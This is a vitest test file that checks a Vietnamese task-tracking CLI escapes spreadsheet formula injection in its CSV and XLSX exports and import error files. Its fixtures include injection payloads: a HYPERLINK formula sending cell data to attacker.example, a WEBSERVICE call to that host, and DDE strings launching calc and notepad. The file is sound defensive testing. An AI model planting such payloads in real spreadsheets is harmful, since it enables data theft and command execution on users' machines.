/**
 * Spreadsheet injection: names, titles and notes that start like a formula
 * ("=", "+", "-", "@", tab, CR) reach every CSV and XLSX nhacviec writes (the
 * report's appendices, the import's error file) as text, never as a formula,
 * and numbers stay numbers. Everything goes through the real CLI against a
 * real database; the files are read back with csv-parse and exceljs.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { parse } from "csv-parse/sync";
import { createTestDatabase, providers, type TestDatabase } from "../helpers/test-database.js";
import { testDeps } from "../helpers/test-deps.js";
import { runCli } from "../helpers/cli.js";
import { buildReportData } from "../../src/reports/build-report-data.js";
import { renderCsv } from "../../src/reports/csv.js";
import { renderXlsx } from "../../src/reports/xlsx.js";
import { endOfLocalDay } from "../../src/core/time/zone.js";
import type { ReportData } from "../../src/reports/types.js";
import { createReportText } from "../../src/reports/report-text.js";
import { createTranslator } from "../../src/i18n/translator.js";

const VI = createReportText(createTranslator(), "vi");

const TZ = "Asia/Ho_Chi_Minh";

/** Agency names as an attacker with access to the agency file would write them (leading tabs are trimmed on import). */
const HOSTILE_AGENCIES = [
  '=HYPERLINK("http://attacker.example/?d="&A1,"Sở Y tế")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=2+5",
  "＝1+1",
];
/** Titles, notes, document numbers and agency cells of rejected import rows, kept as written in the error file. */
const HOSTILE_CELLS = [
  "=1+2",
  "+SUM(A1:A9)",
  "-3+cmd|' /C calc'!A0",
  "@XYZ(B2)",
  "\t=tab",
  "\r=carriage",
  "=WEBSERVICE(\"http://attacker.example/\")",
  "- Triển khai kế hoạch (gạch đầu dòng)",
];

/** A CSV cell, quoted (RFC 4180). */
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
const FORMULA = /^(?:[\t\r]|[\t\r\n ]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;

/** Cells of a worksheet with their exceljs type and formula, read back from the bytes. */
async function readCells(bytes: Uint8Array | Buffer, sheetName?: string) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const sheet = sheetName ? workbook.getWorksheet(sheetName)! : workbook.worksheets[0]!;
  const cells: { address: string; type: ExcelJS.ValueType; value: unknown; formula: string | undefined }[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => cells.push({ address: cell.address, type: cell.type, value: cell.value, formula: cell.formula })));
  return { sheet, cells };
}

/** True when no worksheet of the file has a formula element. */
async function hasNoFormulaXml(bytes: Uint8Array | Buffer): Promise<boolean> {
  const zip = await JSZip.loadAsync(bytes);
  const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/.+\.xml$/.test(name));
  expect(sheets.length).toBeGreaterThan(0);
  for (const name of sheets) if (/<f[\s>]/.test(await zip.file(name)!.async("string"))) return false;
  return true;
}

describe.each(providers)("spreadsheet injection on %s", (provider) => {
  let database: TestDatabase;
  let dir: string;
  const cli = (args: string[]) => runCli(args, database.target);

  beforeAll(async () => {
    database = await createTestDatabase(provider);
    dir = mkdtempSync(join(tmpdir(), "nhacviec-formula-"));
    const agencies = ["ma,ten,loai", "SYT,Sở Y tế,sở", ...HOSTILE_AGENCIES.map((name, i) => `EVIL${i},${q(name)},khác`)].join("\n");
    writeFileSync(join(dir, "agencies.csv"), agencies);
    expect(await cli(["agencies", "import", join(dir, "agencies.csv")])).toMatchObject({ code: 0 });
    const tasks = [
      "ma_nhiem_vu,trich_yeu,co_quan_chu_tri,ngay_giao,han_xu_ly,ngay_hoan_thanh,ghi_chu",
      "NV-1,Kế hoạch y tế,SYT,02/01/2019,31/03/2019,15/03/2019,",
      ...HOSTILE_AGENCIES.map((_, i) => `NV-E${i},${q(`=Nhiệm vụ ${i}`)},EVIL${i},02/01/2019,31/03/2019,${i % 2 === 0 ? "10/04/2019" : ""},${q("+ghi chú")}`),
    ].join("\n");
    writeFileSync(join(dir, "tasks.csv"), tasks);
    expect(await cli(["import", join(dir, "tasks.csv")])).toMatchObject({ code: 0 });
  });
  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    await database.destroy();
  });

  it(`stores the ${HOSTILE_AGENCIES.length} formula-like agency names as written (trimmed), for the exports to escape`, async () => {
    const names = (await database.db.agency.findMany({ where: { code: { startsWith: "EVIL" } }, orderBy: { code: "asc" } })).map((a) => a.name);
    expect(names).toEqual(HOSTILE_AGENCIES.map((n) => n.trim()));
  });

  it(`writes the ${HOSTILE_AGENCIES.length} names into both CSV appendices behind an apostrophe, and the counts as plain numbers`, async () => {
    const out = join(dir, "report");
    expect(await cli(["report", "--out", out, "--from", "01/01/2019", "--to", "30/06/2019", "--as-of", "30/06/2019"])).toMatchObject({ code: 0 });
    for (const file of ["phu-luc-01.csv", "phu-luc-02.csv"]) {
      const rows = parse(readFileSync(join(out, file), "utf8"), { bom: true }) as string[][];
      const body = rows.slice(1);
      const names = body.map((r) => r[1]!);
      for (const name of HOSTILE_AGENCIES) expect(names, file).toContain(`'${name.trim()}`);
      expect(names).toContain("Sở Y tế");
      for (const cell of body.flatMap((r) => r)) expect(FORMULA.test(cell), `${file}: ${JSON.stringify(cell)}`).toBe(false);
      for (const row of body) for (const count of row.slice(2)) expect(count, file).toMatch(/^\d+$/);
    }
  });

  it("writes the names into the XLSX appendices as string cells without a formula, and the counts as number cells", async () => {
    const bytes = readFileSync(join(dir, "report", "bao-cao.xlsx"));
    expect(await hasNoFormulaXml(bytes)).toBe(true);
    for (const sheetName of ["Phụ lục 01", "Phụ lục 02"]) {
      const { cells } = await readCells(bytes, sheetName);
      const named = cells.filter((c) => typeof c.value === "string" && HOSTILE_AGENCIES.some((n) => n.trim() === c.value));
      expect(named).toHaveLength(HOSTILE_AGENCIES.length);
      for (const cell of named) expect([cell.type, cell.formula]).toEqual([ExcelJS.ValueType.String, undefined]);
      for (const cell of cells) expect(cell.formula, cell.address).toBeUndefined();
      // Row 9 onwards are agency rows: TT and every count column are numbers.
      const counts = cells.filter((c) => Number(/\d+$/.exec(c.address)![0]) >= 9 && !/^B\d/.test(c.address) && c.value !== null);
      expect(counts.length).toBeGreaterThan(20);
      for (const cell of counts.filter((c) => !/^A/.test(c.address))) expect(cell.type, cell.address).toBe(ExcelJS.ValueType.Number);
    }
  });

  it("keeps negative numbers numbers and escapes tab- and CR-led names, in CSV and XLSX", async () => {
    const real = await buildReportData(testDeps(database.db), { from: new Date("2019-01-01T00:00:00+07:00"), to: endOfLocalDay("2019-06-30", TZ), asOf: endOfLocalDay("2019-06-30", TZ) });
    const [first, second, ...rest] = real.appendix1.rows;
    // Counts are never negative; the writers must still not mistake "-5" for text to escape, nor a tab-led name for data.
    const data: ReportData = {
      ...real,
      appendix1: {
        ...real.appendix1,
        rows: [{ ...first!, agency: { ...first!.agency, name: "\t=1+1" }, overdue: -5 }, { ...second!, agency: { ...second!.agency, name: "\r@x" }, late: -1 }, ...rest],
      },
    };
    const csv = parse(renderCsv(data, VI).appendix1, { bom: true, relax_column_count: true }) as string[][];
    expect(csv[1]!.slice(1)).toEqual(["'\t=1+1", String(first!.total), String(first!.onTime), String(first!.late), String(first!.inTerm), "-5"]);
    expect(csv[2]![1]).toBe("'\r@x");
    expect(csv[2]![4]).toBe("-1");
    const { sheet } = await readCells(await renderXlsx(data, VI), "Phụ lục 01");
    expect([sheet.getCell("B9").type, sheet.getCell("B9").value]).toEqual([ExcelJS.ValueType.String, "\t=1+1"]);
    expect([sheet.getCell("G9").type, sheet.getCell("G9").value]).toEqual([ExcelJS.ValueType.Number, -5]);
    expect([sheet.getCell("E10").type, sheet.getCell("E10").value]).toEqual([ExcelJS.ValueType.Number, -1]);
  });

  describe("the import's error file", () => {
    /** A task file whose every row is rejected (a date that does not exist) and whose cells start like formulas. */
    function badRows(): string {
      const header = "ma_nhiem_vu,trich_yeu,co_quan_chu_tri,so_ky_hieu_van_ban,ngay_giao,ghi_chu";
      const rows = HOSTILE_CELLS.map((cell, i) => [`X-${i}`, cell, i % 2 === 0 ? "SYT" : cell, cell, "31/02/2019", cell].map(q).join(","));
      return [header, ...rows].join("\r\n");
    }

    it(`escapes ${HOSTILE_CELLS.length} formula-like cells in the CSV error file, and reads them back unchanged when it is imported again`, async () => {
      const source = join(dir, "bad.csv");
      writeFileSync(source, badRows());
      const errors = join(dir, "errors.csv");
      expect(await cli(["import", source, "--errors", errors])).toMatchObject({ code: 1 });
      const rows = parse(readFileSync(errors, "utf8"), { bom: true }) as string[][];
      expect(rows).toHaveLength(1 + HOSTILE_CELLS.length);
      for (const cell of rows.flat()) expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
      const titles = rows.slice(1).map((r) => r[2]);
      // A quoted CR inside a CSV cell is read as a line break.
      expect(titles).toEqual(HOSTILE_CELLS.map((c) => `'${c.replace(/^\r/, "\n")}`));
      // Physical lines of the source: the quoted CRs count as line breaks.
      const lines = rows.slice(1).map((r) => Number(r[0]));
      expect(lines[0]).toBe(2);
      expect(lines.every((n, i) => Number.isInteger(n) && (i === 0 || n > lines[i - 1]!))).toBe(true);

      // The user fixes the date in the error file and imports it: the apostrophes are gone, the words are kept.
      const fixed = join(dir, "fixed.csv");
      writeFileSync(fixed, readFileSync(errors, "utf8").replace(/31\/02\/2019/g, "28/02/2019"));
      const again = await cli(["import", fixed, "--skip-invalid"]);
      expect(again.code).toBe(0);
      const stored = await database.db.task.findMany({ where: { code: { startsWith: "X-" } }, orderBy: { code: "asc" } });
      const expected = HOSTILE_CELLS.map((c, i) => ({ code: `X-${i}`, title: c.replace(/^\r/, "\n").trim() })).filter((_, i) => i % 2 === 0);
      expect(stored.map((t) => ({ code: t.code, title: t.title }))).toEqual(expected);
      expect(stored.map((t) => t.note)).toEqual(expected.map((e) => e.title));
    });

    it(`writes the ${HOSTILE_CELLS.length} rows into the XLSX error file as string cells without formulas, and the line as a number`, async () => {
      // The source is an XLSX file too: a CR at the start of a cell survives there.
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet("Nhiệm vụ");
      sheet.addRow(["ma_nhiem_vu", "trich_yeu", "co_quan_chu_tri", "so_ky_hieu_van_ban", "ngay_giao", "ghi_chu"]);
      HOSTILE_CELLS.forEach((cell, i) => sheet.addRow([`Y-${i}`, cell, "SYT", cell, "31/02/2019", cell]));
      const source = join(dir, "bad.xlsx");
      writeFileSync(source, Buffer.from(await workbook.xlsx.writeBuffer()));
      const errors = join(dir, "errors.xlsx");
      expect(await cli(["import", source, "--errors", errors])).toMatchObject({ code: 1 });
      const bytes = readFileSync(errors);
      expect(await hasNoFormulaXml(bytes)).toBe(true);
      const { sheet: read, cells } = await readCells(bytes);
      for (const cell of cells) expect(cell.formula, cell.address).toBeUndefined();
      for (let r = 2; r <= HOSTILE_CELLS.length + 1; r++) {
        expect([read.getCell(r, 1).type, read.getCell(r, 1).value]).toEqual([ExcelJS.ValueType.Number, r]);
        // XML turns a raw CR into a line feed when the file is read; the cell stays text either way.
        const written = HOSTILE_CELLS[r - 2]!.replace(/\r/g, "\n");
        for (const c of [3, 5, 7]) expect([read.getCell(r, c).type, read.getCell(r, c).value]).toEqual([ExcelJS.ValueType.String, written]);
      }
    });
  });
});
